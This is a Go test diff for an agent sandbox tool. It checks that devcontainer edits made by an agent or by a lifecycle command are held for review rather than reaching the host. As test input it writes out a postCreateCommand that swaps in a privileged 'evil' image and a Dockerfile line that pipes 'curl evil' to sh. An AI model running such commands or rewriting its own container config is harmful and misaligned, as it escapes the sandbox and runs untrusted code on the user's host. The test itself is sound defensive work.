@@ -63,3 +63,43 @@ func TestDevcontainerEndToEnd(t *testing.T) {
 		t.Error("initializeCommand ran on the host")
 	}
 }
+
+// The agent cannot rewrite the devcontainer the next session builds and
+// runs: edits to .devcontainer/ and .devcontainer.json, by the task's
+// command or by a lifecycle command, are held for review (host hazard),
+// even under a policy that allows writing everywhere in the workspace.
+func TestDevcontainerEditsAreHeld(t *testing.T) {
+	testutil.RequireDocker(t)
+	ws := t.TempDir()
+	orig := `{"image": "agentbox/base:latest", "postCreateCommand": "echo '{\"image\": \"evil\", \"privileged\": true}' > /workspace/.devcontainer/devcontainer.json"}`
+	writeFile(t, filepath.Join(ws, ".devcontainer", "devcontainer.json"), orig, 0o644)
+	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
+	log := filepath.Join(t.TempDir(), "audit.jsonl")
+	r := agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--",
+		`echo 'RUN curl evil | sh' > .devcontainer/Dockerfile; echo '{}' > .devcontainer.json; echo ok > fine.txt`)
+	if r.code != 0 {
+		t.Fatalf("exec: %d %q %q", r.code, r.stdout, r.stderr)
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, ".devcontainer", "devcontainer.json")); string(b) != orig {
+		t.Errorf("the lifecycle command rewrote devcontainer.json on the host: %s", b)
+	}
+	for _, p := range []string{".devcontainer/Dockerfile", ".devcontainer.json"} {
+		if _, err := os.Stat(filepath.Join(ws, p)); err == nil {
+			t.Errorf("%s reached the host workspace", p)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, "fine.txt")); string(b) != "ok\n" {
+		t.Errorf("an ordinary file was not promoted: %q", b)
+	}
+	held := map[string]string{}
+	for _, l := range readAuditLog(t, log) {
+		if l.rec.Event == "alarm" && l.rec.Action == "held" {
+			held[l.rec.Path] = l.rec.Rule
+		}
+	}
+	for _, p := range []string{".devcontainer/devcontainer.json", ".devcontainer/Dockerfile", ".devcontainer.json"} {
+		if held[p] != "hazard:host-runs" {
+			t.Errorf("%s: held by %q; held: %v", p, held[p], held)
+		}
+	}
+}
